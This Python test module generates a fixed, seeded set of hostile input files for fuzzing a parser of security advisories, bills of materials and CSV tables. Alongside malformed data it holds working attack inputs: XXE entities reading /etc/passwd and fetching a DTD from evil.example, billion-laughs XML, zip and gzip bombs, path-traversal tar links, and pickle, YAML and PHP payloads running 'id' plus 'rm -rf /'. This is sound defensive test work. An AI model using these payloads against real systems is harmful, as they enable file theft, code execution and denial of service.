"""Hostile files: deep, huge, broken, packed too often, dressed as something else (H6).

``hostile_files()`` gives more than a thousand, always the same ones: chance has a seed. A file is
made only when it is asked for, so that the big ones are never in memory together.
"""

from __future__ import annotations

import bz2
import copy
import gzip
import io
import json
import lzma
import random
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from typing import Any

from tests.formats.advisories import csaf_21_document, csaf_document, cve_record
from tests.harness.texts import PATHS, TEXTS, as_bytes

SEED = 20261124
MB = 1_000_000


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A name as it would be uploaded, and how to make the bytes; ``heavy`` ones take a moment."""

    name: str
    make: Callable[[], bytes]
    heavy: bool = False


def hostile_files() -> Iterator[HostileFile]:
    """All of them, in an order that never changes."""
    yield from _json()
    yield from _changed_documents()
    yield from _tables()
    yield from _packed()
    yield from _in_disguise()
    yield from _markup()
    yield from _damaged()


def good_documents() -> dict[str, Any]:
    """One good document of each kind that Noroshi reads, to be spoilt."""
    return {
        "csaf-2.0": csaf_document(),
        "csaf-2.1": csaf_21_document(),
        "cve-5": cve_record(),
        "cyclonedx": bill(),
    }


def bill() -> dict[str, Any]:
    """A CycloneDX bill that names everything which Noroshi reads."""
    component = {
        "type": "library",
        "bom-ref": "a",
        "name": "left-pad",
        "version": "1.3.0",
        "purl": "pkg:npm/left-pad@1.3.0",
        "cpe": "cpe:2.3:a:left:pad:1.3.0:*:*:*:*:*:*:*",
        "supplier": {"name": "Left Works"},
        "publisher": "Left Works",
        "group": "@left",
        "components": [{"type": "library", "name": "inner", "version": "1"}],
    }
    return {
        "bomFormat": "CycloneDX",
        "specVersion": "1.5",
        "serialNumber": "urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79",
        "version": 1,
        "metadata": {
            "timestamp": "2026-01-01T00:00:00Z",
            "component": {"type": "application", "name": "order-app", "version": "1.0"},
        },
        "components": [component],
        "dependencies": [{"ref": "a", "dependsOn": ["a"]}],
    }


def _file(name: str, raw: bytes) -> HostileFile:
    return HostileFile(name, lambda: raw)


# ---- JSON ------------------------------------------------------------------------------


def _json() -> Iterator[HostileFile]:
    csaf = json.dumps(csaf_document())
    small: dict[str, bytes] = {
        "empty": b"",
        "space": b" \n\t ",
        "nul": b"\x00",
        "null": b"null",
        "number": b"7",
        "string": b'"x"',
        "list": b"[]",
        "object": b"{}",
        "list-of-nothing": b"[null, null]",
        "open-object": b'{"a":',
        "open-list": b"[1,",
        "open-string": b'{"a": "b',
        "comma-at-the-end": b'{"a": 1,}',
        "comment": b'{"a": 1} // no',
        "two-values": b'{"a": 1} {"a": 2}',
        "single-quotes": b"{'a': 1}",
        "nan": b'{"document": {"csaf_version": "2.0", "x": NaN}}',
        "infinity": b'{"document": {"csaf_version": "2.0", "x": -Infinity}}',
        "too-big-a-float": b'{"document": {"csaf_version": "2.0", "x": 1e999}}',
        "long-number": b'{"document": {"csaf_version": "2.0", "x": ' + b"9" * 10_000 + b"}}",
        "same-name-twice": b'{"document": {"csaf_version": "2.0"}, "document": {}}',
        "same-version-twice": b'{"document": {"csaf_version": "2.0", "csaf_version": "2.1"}}',
        "escaped-nul": b'{"document": {"csaf_version": "2.0", "title": "a\\u0000b"}}',
        "raw-nul": b'{"document": {"csaf_version": "2.0", "title": "a\x00b"}}',
        "raw-control": b'{"document": {"csaf_version": "2.0", "title": "a\x01\nb"}}',
        "lone-surrogate": b'{"document": {"csaf_version": "2.0", "title": "\\ud800"}}',
        "raw-surrogate": b'{"document": {"csaf_version": "2.0", "title": "\xed\xa0\x80"}}',
        "broken-utf-8": b'{"document": {"csaf_version": "2.0", "title": "\xff\xfe\xc3"}}',
        "overlong-utf-8": b'{"document": {"csaf_version": "2.0", "title": "\xc0\xaf"}}',
        "bad-escape": b'{"document": {"csaf_version": "2.0", "title": "\\x41"}}',
        "prototype": b'{"__proto__": {"document": {}}, "constructor": {"prototype": {}}}',
        "two-formats": b'{"document": {"csaf_version": "2.0"}, "bomFormat": "CycloneDX"}',
        "version-as-a-list": b'{"document": {"csaf_version": ["2.0"]}}',
        "version-unknown": b'{"document": {"csaf_version": "9.9"}}',
        "bom-unknown": b'{"bomFormat": "CycloneDX", "specVersion": "99"}',
        "cve-unknown": b'{"dataType": "CVE_RECORD", "dataVersion": "99"}',
        "cve-rejected": b'{"dataType":"CVE_RECORD","dataVersion":"5.1","cveMetadata":{"state":"REJECTED"}}',
        "lines-half-good": csaf.encode() + b"\n{broken\n" + csaf.encode(),
        "lines-of-nothing": b"{}\n{}\n{}\n",
        "backslashes": b'"' + b"\\" * 100_001,
        "quotes": b'"' + b'\\"' * 100_000,
        "colons": b"{" + b":" * 100_000,
        "only-closing": b"]}" * 100_000,
        "utf-16-le": csaf.encode("utf-16-le"),
        "utf-16-be": csaf.encode("utf-16-be"),
        "utf-16": csaf.encode("utf-16"),
        "utf-32": csaf.encode("utf-32"),
        "utf-7": csaf.encode("utf-7"),
        "shift-jis": json.dumps({"document": {"title": "脆弱性"}}, ensure_ascii=False).encode(
            "shift-jis"
        ),
        "utf-8-sig": b"\xef\xbb\xbf" + csaf.encode(),
        "two-marks": b"\xef\xbb\xbf\xef\xbb\xbf" + csaf.encode(),
        "mark-only": b"\xef\xbb\xbf",
        "text-behind": csaf.encode() + b"\x00\x00\x00",
        "text-in-front": b")]}',\n" + csaf.encode(),
    }
    for name, raw in small.items():
        yield _file(f"{name}.json", raw)
    big: dict[str, Callable[[], bytes]] = {
        "deep-lists": lambda: b"[" * (5 * MB),
        "deep-objects": lambda: b'{"a":' * MB,
        "deep-csaf": lambda: (
            b'{"document":{"csaf_version":"2.0","x":' + b"[" * 199 + b"]" * 199 + b"}}"
        ),
        "deep-bill": _deep_bill,
        "deep-branches": _deep_branches,
        "wide-list": lambda: b"[" + b"0," * (6 * MB) + b"0]",
        "wide-object": lambda: b"{" + b",".join(b'"%d":0' % n for n in range(600_000)) + b"}",
        "many-small-objects": lambda: b"[" + b'{"a":1},' * 1_600_000 + b"0]",
        "many-small-lists": lambda: b"[" + b"[]," * 2_400_000 + b"0]",
        "many-long-strings": lambda: b"[" + b'"%s",' % (b"a" * 96) * 395_000 + b"0]",
        "many-wide-strings": lambda: (
            b"[" + b'"\xf0\x9f\x92\xa9%s",' % (b"a" * 92) * 395_000 + b"0]"
        ),
        "one-long-wide-string": lambda: (
            b'{"document":{"csaf_version":"2.0","title":"\xf0\x9f\x92\xa9'
            + b"a" * (39 * MB)
            + b'"}}'
        ),
        "one-long-string": lambda: (
            b'{"document":{"csaf_version":"2.0","title":"' + b"a" * (39 * MB) + b'"}}'
        ),
        "one-long-name": lambda: b'{"' + b"a" * (39 * MB) + b'": 1}',
        "many-lines": lambda: b"{}\n" * 20_000,
        "one-long-line": lambda: b"{" + b" " * (60 * MB) + b"}",
        "too-large": lambda: b'"' + b"a" * (101 * MB) + b'"',
        "many-products": _many_products,
        "many-components": lambda: json.dumps(
            bill() | {"components": [{"type": "library", "name": f"c{n}"} for n in range(60_000)]}
        ).encode(),
    }
    for name, make in big.items():
        yield HostileFile(f"{name}.json", make, heavy=True)


def _deep_bill() -> bytes:
    return (
        b'{"bomFormat":"CycloneDX","specVersion":"1.5","components":['
        + b'{"name":"a","components":[' * 99
        + b"]}" * 99
        + b"]}"
    )


def _deep_branches() -> bytes:
    document = csaf_document()
    branch: dict[str, Any] = {"category": "vendor", "name": "x", "branches": []}
    document["product_tree"] = {"branches": [branch]}
    for _ in range(90):
        inner = {"category": "product_name", "name": "x", "branches": []}
        branch["branches"] = [inner]
        branch = inner
    return json.dumps(document).encode()


def _many_products() -> bytes:
    document = csaf_document()
    document["product_tree"]["full_product_names"] = [
        {"product_id": f"P-{number}", "name": f"Product {number}"} for number in range(20_000)
    ]
    return json.dumps(document).encode()


# ---- good documents with one thing changed -----------------------------------------------

_VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**63,
    10**30,
    1.5,
    "",
    " ",
    [],
    {},
    [[]],
    [None],
    {"": None},
    [{}],
    "a" * 70_000,
    "\u202e",
    "\n",
    "2024-02-30T25:61:00Z",
    "0000-00-00",
    "9999-12-31T23:59:59+99:99",
)


def _changed_documents() -> Iterator[HostileFile]:
    """Every node of every good document gone, doubled, of another kind, or with a hostile text."""
    chance = random.Random(SEED)
    texts = [text for text in TEXTS if not any(0xD800 <= ord(sign) < 0xE000 for sign in text)]
    for kind, document in good_documents().items():
        for number, path in enumerate(_places(document)):
            values = [*chance.sample(_VALUES, 3), chance.choice(texts)]
            for turn, value in enumerate(values):
                make = partial(_with, document, path, value)
                yield HostileFile(f"{kind}-{number}-{turn}.json", make)
            yield HostileFile(f"{kind}-{number}-without.json", partial(_without, document, path))


def _places(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    items: Any = ()
    if isinstance(value, dict):
        items = value.items()
    elif isinstance(value, list):
        items = enumerate(value)
    for step, inner in items:
        yield (*path, step)
        yield from _places(inner, (*path, step))


def _with(document: Any, path: tuple[str | int, ...], value: Any) -> bytes:
    changed = copy.deepcopy(document)
    place = changed
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    return json.dumps(changed).encode()


def _without(document: Any, path: tuple[str | int, ...]) -> bytes:
    changed = copy.deepcopy(document)
    place = changed
    for step in path[:-1]:
        place = place[step]
    del place[path[-1]]
    return json.dumps(changed).encode()


# ---- tables ------------------------------------------------------------------------------


def _tables() -> Iterator[HostileFile]:
    head = b"Product,Version,System\r\n"
    small: dict[str, bytes] = {
        "head-only": head,
        "two-heads": head + head + b"nginx,1,web\r\n" + head,
        "same-column-twice": b"Product,Product,Version\r\na,b,1\r\n",
        "no-known-column": b"x,y,z\r\n1,2,3\r\n",
        "ragged": head + b"nginx\r\nnginx,1\r\nnginx,1,web,more,and,more\r\n",
        "empty-rows": head + b"\r\n\r\n,,\r\n  ,  ,  \r\n",
        "nul": head + b"ng\x00inx,1,web\r\n",
        "controls": head + b"ng\x01\x1b[31minx,\x07,web\r\n",
        "open-quote": head + b'"nginx,1,web\r\n',
        "quote-inside": head + b'ng"inx,1,web\r\n"a"b,1,web\r\n',
        "quoted-lines": head + b'"ng\r\ninx","1\n2","we\rb"\r\n',
        "quotes": head + b'"' * 9_999,
        "old-mac": head.replace(b"\r\n", b"\r") + b"nginx,1,web\r",
        "mixed-ends": head + b"a,1,web\nb,2,web\rc,3,web\r\n",
        "semicolons": head.replace(b",", b";") + b"nginx;1;web\r\n",
        "tabs": head.replace(b",", b"\t") + b"nginx\t1\tweb\r\n",
        "pipes": head.replace(b",", b"|") + b"nginx|1|web\r\n",
        "sep-line": b"sep=;\r\nProduct;Version;System\r\nnginx;1;web\r\n",
        "utf-16": (head + b"nginx,1,web\r\n").decode().encode("utf-16"),
        "shift-jis": "製品,版,システム\r\n受注,1,本社\r\n".encode("shift-jis"),
        "cp932": "製品,版,システム\r\n①㈱髙,1,本社\r\n".encode("cp932"),
        "euc-jp": "製品,版,システム\r\n受注,1,本社\r\n".encode("euc-jp"),
        "iso-2022-jp": "製品,版,システム\r\n受注,1,本社\r\n".encode("iso-2022-jp"),
        "broken-utf-8": head + b"ng\xffinx,\xc3,web\r\n",
        "surrogate": head + b"ng\xed\xa0\x80inx,1,web\r\n",
        "spaces-in-head": b"  Product  ,\tVersion, System \r\nnginx,1,web\r\n",
        "title-above": b"List of systems\r\n\r\nProduct,Version,System\r\nnginx,1,web\r\n",
        "many-columns": b",".join(b"c%d" % n for n in range(5_000)) + b"\r\n" + b"1," * 5_000,
        "huge-head": b"Product," + b"x" * 200_000 + b"\r\nnginx,1\r\n",
        "sum-line": head + b"nginx,1,web\r\nTotal,=SUM(B2:B9),\r\n",
        "not-a-table": b"Dear all,\nplease find attached\nthe list.\n",
        "one-word": b"nginx",
        "commas": b"," * 10_000,
        "line-ends": b"\r\n" * 10_000,
    }
    for name, raw in small.items():
        yield _file(f"{name}.csv", raw)
    for number, text in enumerate(TEXTS[::5]):
        cell = b'"' + as_bytes(text).replace(b'"', b'""') + b'"'
        yield _file(f"cell-{number}.csv", head + b",".join([cell] * 3) + b"\r\n")
    yield HostileFile("huge-cell.csv", lambda: head + b"n" * (30 * MB) + b",1,web\r\n", heavy=True)
    yield HostileFile(
        "wide-cells.csv",
        lambda: head + b'"\xf0\x9f\x92\xa9%s",1,web\r\n' % (b"n" * 85) * 395_000,
        heavy=True,
    )
    yield HostileFile("huge-quoted.csv", lambda: head + b'"' + b"n\n" * (10 * MB), heavy=True)
    yield HostileFile(
        "many-rows.csv",
        lambda: head + b"".join(b"p%d,1,web\r\n" % number for number in range(210_000)),
        heavy=True,
    )


# ---- archives ----------------------------------------------------------------------------


def zipped(members: list[tuple[str, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive; the same name may occur twice."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", how) as archive:
        warnings.simplefilter("ignore", UserWarning)  # of the same name twice, which is meant
        for name, raw in members:
            archive.writestr(zipfile.ZipInfo(name), raw, how)
    return out.getvalue()


def tarred(
    members: list[tuple[str, bytes]], kind: bytes = tarfile.REGTYPE, link: str = ""
) -> bytes:
    """A tar archive of files, links or devices, whatever the names are."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, raw in members:
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, link
            member.size = len(raw) if kind == tarfile.REGTYPE else 0
            archive.addfile(member, io.BytesIO(raw))
    return out.getvalue()


def _packed() -> Iterator[HostileFile]:
    good = json.dumps(csaf_document()).encode()
    names = [path for path in PATHS if path and "\ud800" not in path and "\x00" not in path]
    small: dict[str, bytes] = {
        "empty.zip": zipped([]),
        "broken-inside.zip": zipped([("a.json", b"{"), ("b.json", good), ("c.json", b"\xff")]),
        "same-name.zip": zipped([("a.json", good), ("a.json", b"{}"), ("A.JSON", good)]),
        "zip-in-zip.zip": zipped([("a.zip", zipped([("b.zip", zipped([("c.json", good)]))]))]),
        "gz-in-zip.zip": zipped([("a.json.gz", gzip.compress(good))]),
        "zip-in-gz.gz": gzip.compress(zipped([("a.json", good)])),
        "gz-in-gz.json.gz": gzip.compress(gzip.compress(good)),
        "tar-in-tar.tar": tarred([("a.tar", tarred([("b.json", good)]))]),
        "stored.zip": zipped([("a.json", good)], zipfile.ZIP_STORED),
        "lzma.zip": zipped([("a.json", good)], zipfile.ZIP_LZMA),
        "bz2.zip": zipped([("a.json", good)], zipfile.ZIP_BZIP2),
        "office.zip": zipped([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<x/>")]),
        "sheet.xlsx": zipped([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<x/>")]),
        "program.jar": zipped([("META-INF/MANIFEST.MF", b"x"), ("a.class", b"\xca\xfe\xba\xbe")]),
        "names.zip": zipped([(name, good[:40]) for name in names]),
        "names.tar": tarred([(name, good[:40]) for name in names]),
        "surrogate-names.tar": tarred([("a\udcff\udc80.json", good), ("b\udc80/c.json", b"{")]),
        "long-name.tar": tarred([("a/" * 5_000 + "a.json", good)]),
        "absolute.zip": zipped([("/etc/passwd", b"x"), ("C:\\x.json", good)]),
        "symlink.tar": tarred([("a.json", b"")], tarfile.SYMTYPE, "/etc/passwd"),
        "hardlink.tar": tarred([("a.json", b"")], tarfile.LNKTYPE, "../../etc/passwd"),
        "fifo.tar": tarred([("a.json", b"")], tarfile.FIFOTYPE),
        "device.tar": tarred([("a.json", b"")], tarfile.CHRTYPE),
        "links.tar.gz": gzip.compress(tarred([("a", b"")], tarfile.SYMTYPE, "a")),
        "two-members.gz": gzip.compress(good) + gzip.compress(good),
        "rubbish-behind.gz": gzip.compress(good) + b"rubbish" * 99,
        "wrong-crc.gz": gzip.compress(good)[:-8] + b"\x00" * 8,
        "wrong-ending.json": gzip.compress(good),
        "wrong-ending.zip": good,
        "wrong-ending.gz": good,
        "zip-as.json": zipped([("a.json", good)]),
        "marks-only.zip": b"PK\x03\x04",
        "end-only.zip": b"PK\x05\x06" + b"\x00" * 18,
        "end-lies.zip": b"PK\x05\x06" + b"\xff" * 18,
        "gz-mark-only.gz": b"\x1f\x8b",
        "bz2.json.bz2": bz2.compress(good),
        "xz.json.xz": lzma.compress(good),
        "tar.tar.bz2": bz2.compress(tarred([("a.json", good)])),
        "seven.7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 99,
        "rar.rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 99,
        "zstd.json.zst": b"\x28\xb5\x2f\xfd" + b"\x00" * 99,
        "encrypted.zip": _encrypted(),
        "lies-about-size.zip": _lying(),
    }
    for name, raw in small.items():
        yield _file(name, raw)
    for name, raw in (
        ("whole.zip", zipped([("a.json", good), ("b.json", good)])),
        ("whole.json.gz", gzip.compress(good)),
        ("whole.tar", tarred([("a.json", good), ("b.json", good)])),
        ("whole.tar.gz", gzip.compress(tarred([("a.json", good), ("b.json", good)]))),
    ):
        for part in range(1, 10):
            yield _file(f"cut-{part}-{name}", raw[: len(raw) * part // 10])
    big: dict[str, Callable[[], bytes]] = {
        "bomb.json.gz": lambda: _gz_of_zeros(800),
        "bomb.zip": lambda: zipped([("a.json", b"0" * (150 * MB))]),
        "many-bombs.zip": lambda: zipped([(f"{n}.json", b"0" * (9 * MB)) for n in range(60)]),
        "bomb.tar.gz": lambda: gzip.compress(tarred([("a.json", b"0" * (120 * MB))]), 1),
        "quine.gz": lambda: gzip.compress(gzip.compress(b"0" * (90 * MB)), 1),
        "overlap.zip": _overlapping,
        "many-members.zip": lambda: zipped([(f"{n}.json", b"{}") for n in range(20_001)]),
        "many-members.tar.gz": lambda: gzip.compress(
            tarred([(f"{n}.json", b"{}") for n in range(20_001)])
        ),
    }
    for name, make in big.items():
        yield HostileFile(name, make, heavy=True)


def _gz_of_zeros(megabytes: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1) as packed:
        for _ in range(megabytes):
            packed.write(b"0" * MB)
    return out.getvalue()


def _encrypted() -> bytes:
    """The mark of an encrypted member, in both places where a ZIP keeps it."""
    raw = bytearray(zipped([("a.json", b"secret")], zipfile.ZIP_STORED))
    raw[6] |= 1
    raw[raw.index(b"PK\x01\x02") + 8] |= 1
    return bytes(raw)


def _lying() -> bytes:
    """The directory says that the member is one byte long; it is a megabyte."""
    raw = bytearray(zipped([("a.json", b"0" * MB)]))
    place = raw.index(b"PK\x01\x02") + 24
    raw[place : place + 4] = (1).to_bytes(4, "little")
    return bytes(raw)


def _overlapping() -> bytes:
    """Five hundred names for the same megabytes (after David Fifield's better zip bomb)."""
    raw = zipped([("0000.json", b"0" * (9 * MB))])
    start = raw.index(b"PK\x01\x02")
    entry = raw[start : raw.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"0000.json", b"%04d.json" % n) for n in range(500))
    end = bytearray(raw[raw.index(b"PK\x05\x06") :])
    end[8:10] = end[10:12] = (500).to_bytes(2, "little")
    end[12:16] = len(entries).to_bytes(4, "little")
    return raw[:start] + entries + bytes(end)


# ---- other files -------------------------------------------------------------------------


def _in_disguise() -> Iterator[HostileFile]:
    marks: dict[str, bytes] = {
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n",
        "png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 200,
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 200,
        "gif": b"GIF89a/*" + b"\x00" * 99 + b"*/=1;alert(1)",
        "webp": b"RIFF\xff\xff\xff\xffWEBPVP8 ",
        "bmp": b"BM" + b"\xff" * 200,
        "tiff": b"II*\x00" + b"\xff" * 200,
        "exe": b"MZ\x90\x00" + b"\x00" * 200,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500,
        "sqlite": b"SQLite format 3\x00" + b"\x00" * 500,
        "pickle": b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R.",
        "pem": b"-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n",
        "pgp": b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n",
        "der": b"\x30\x84\xff\xff\xff\xff" + b"\x30\x80" * 5_000,
        "mail": b"From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\nbody\r\n",
        "mbox": b"From a@b.example Mon Jan  1 00:00:00 2026\nFrom: a@b.example\n\nbody\n",
        "yaml": b"!!python/object/apply:os.system ['id']\n",
        "toml": b'[project]\nname = "x"\n',
        "php": b"<?php system('id'); ?>",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "html": b"<!DOCTYPE html><script>alert(1)</script>",
        "zeros": b"\x00" * 100_000,
        "noise": random.Random(SEED).randbytes(100_000),
    }
    for kind, raw in marks.items():
        for ending in ("json", "csv", kind):
            yield _file(f"{kind}.{ending}", raw)
    for number, name in enumerate(PATHS):
        yield _file(name, [b"", b"{", b"Product\r\nx\r\n"][number % 3])


def _markup() -> Iterator[HostileFile]:
    entity = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
    laughs = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
        b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
    )
    small = {
        "entity.xml": entity + b"<x>&e;</x>",
        "entity.json": entity + b"<x>&e;</x>",
        "parameter-entity.xml": b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]><x/>",
        "laughs.xml": laughs + b"]><x>&a11;</x>",
        "include.xml": b"<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></x>",
        "deep.xml": b"<a>" * 100_000,
        "attributes.xml": b"<a " + b" ".join(b"a%d='x'" % n for n in range(9_999)) + b"/>",
        "open.xml": b"<a><b>",
        "bom.xml": b"<?xml version='1.0'?><bom xmlns='http://cyclonedx.org/schema/bom/1.5'><components/></bom>",
        "cvrf.xml": b"<cvrfdoc xmlns='http://www.icasi.org/CVRF/schema/cvrf/1.1'/>",
        "rss.xml": b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/>",
        "svg.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "utf-16.xml": "<?xml version='1.0' encoding='utf-16'?><x/>".encode("utf-16"),
    }
    for name, raw in small.items():
        yield _file(name, raw)


# ---- chance ------------------------------------------------------------------------------


def _damaged() -> Iterator[HostileFile]:
    """Good files in which a few bytes are others, gone or doubled."""
    chance = random.Random(SEED)
    good = [
        *(
            (f"{kind}.json", json.dumps(document).encode())
            for kind, document in good_documents().items()
        ),
        ("list.csv", b"Product,Version,System\r\n" + b"nginx,1.2,web\r\n" * 20),
        ("two.zip", zipped([("a.json", json.dumps(csaf_document()).encode()), ("b.json", b"{}")])),
        ("two.tar.gz", gzip.compress(tarred([("a.json", b"{}"), ("b.json", b"{}")]), mtime=0)),
    ]
    for number in range(210):
        name, raw = good[number % len(good)]
        spoilt = bytearray(raw)
        for _ in range(chance.randint(1, 8)):
            place = chance.randrange(len(spoilt))
            what = chance.randrange(3)
            if what == 0:
                spoilt[place] = chance.randrange(256)
            elif what == 1:
                del spoilt[place : place + chance.randint(1, 9)]
            else:
                spoilt[place:place] = spoilt[place : place + chance.randint(1, 99)]
        yield _file(f"damaged-{number}-{name}", bytes(spoilt))
